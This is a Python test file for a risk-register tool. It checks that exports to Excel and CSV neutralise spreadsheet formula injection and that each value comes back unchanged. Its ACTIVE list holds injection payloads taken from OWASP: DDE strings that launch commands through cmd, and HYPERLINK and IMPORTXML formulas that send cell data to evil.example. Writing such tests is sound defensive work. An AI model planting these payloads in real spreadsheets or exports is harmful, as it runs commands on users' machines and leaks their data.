"""Texts that a spreadsheet program could run: out as texts, back exactly as they were, in workbooks and in CSV."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from caretrail import source
from caretrail.plain import FORMULA, cell, uncelled
from caretrail.writing import write
from tests.history.repository import Made
from tests.sheets.conftest import RISK_ID, Office, add, column
from tests.site.hostile import PAYLOADS, hostile_register
from tests.views.fakes import RISK_PATH

ACTIVE = (
    "=1+1", "+1+1", "-1+1", "@SUM(1)", "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff20SUM(1)",
    "=cmd|' /C calc'!A0", "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "@SUM(1+1)*cmd|' /C calc'!A0",
    "=HYPERLINK(\"https://evil.example/?x=\"&A1,\"Open\")", "=IMPORTXML(\"https://evil.example\",\"//a\")",
    "-2+3+cmd|' /C calc'!D2", "=1+1\";=1+1", "'=1+1", "''quoted", "https://evil.example/",
    "_x000D_", "_x0041_", "{=1+1}", "=\u0661",
)
"""As OWASP lists them, with the signs of full width, an escape of Excel's own, and an address."""


@pytest.fixture
def armed(office: Office) -> Office:
    """A register in which a risk's log holds them all."""
    risk: Any = source.parse(office.text().encode())
    risk["log"] = [{"id": f"L{number}", "on": "2026-03-06", "text": text} for number, text in enumerate(ACTIVE, 1)]
    office.made.commit({RISK_PATH: write(risk)})
    office.made.check_out()
    return office


def test_they_go_out_as_texts_and_come_back_as_they_were(armed: Office) -> None:
    armed.export()
    sheet: Any = openpyxl.load_workbook(armed.book)["Risks - log"]
    place = column(sheet, "Text")
    assert {sheet.cell(row, place).data_type for row in range(2, sheet.max_row + 1)} == {"s"}
    assert not any(cell.hyperlink for row in sheet for cell in row)
    before = armed.files()
    assert armed.send_back("--write").out.startswith("no new records, no changed records")
    assert armed.files() == before


def test_one_that_is_typed_with_a_quote_before_it_is_taken_without(taken: Office) -> None:
    typed = [each for each in ACTIVE if each.startswith(FORMULA)]

    def change(book: Any) -> None:
        for each in typed:
            add(book["Risks - log"], Risk_id=RISK_ID, On=datetime(2026, 3, 6), Text=f"'{each}")

    taken.change(change)
    assert taken.send_back("--write").status == 0
    risk: Any = source.parse(taken.text().encode())
    assert [each["text"] for each in risk["log"]] == typed


@pytest.mark.parametrize("text", ACTIVE)
def test_in_csv_each_is_neutral_and_comes_back(text: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow([cell(text)])
    (read,) = next(csv.reader(io.StringIO(written.getvalue())))
    assert not read.startswith(FORMULA)
    assert uncelled(read) == text


def test_a_hostile_register_goes_out_and_comes_back_unchanged(tmp_path: Path) -> None:
    """Every field of every kind is filled, with texts that try to be more than text, and values that do not fit."""
    hostile_register(tmp_path / "register")
    office = Office(Made(tmp_path / "register"))
    office.made.check_out()
    said = office.export()
    assert said.status == 0, said.err
    before = office.files()
    book: Any = openpyxl.load_workbook(office.book)
    assert not any(cell.data_type == "f" for sheet in book for row in sheet for cell in row)
    told = office.send_back("--write")
    assert told.out.splitlines()[0].startswith("no new records, no changed records")
    assert office.files() == before
    assert any(PAYLOADS[0] in str(cell.value) for row in book["Risks"] for cell in row)
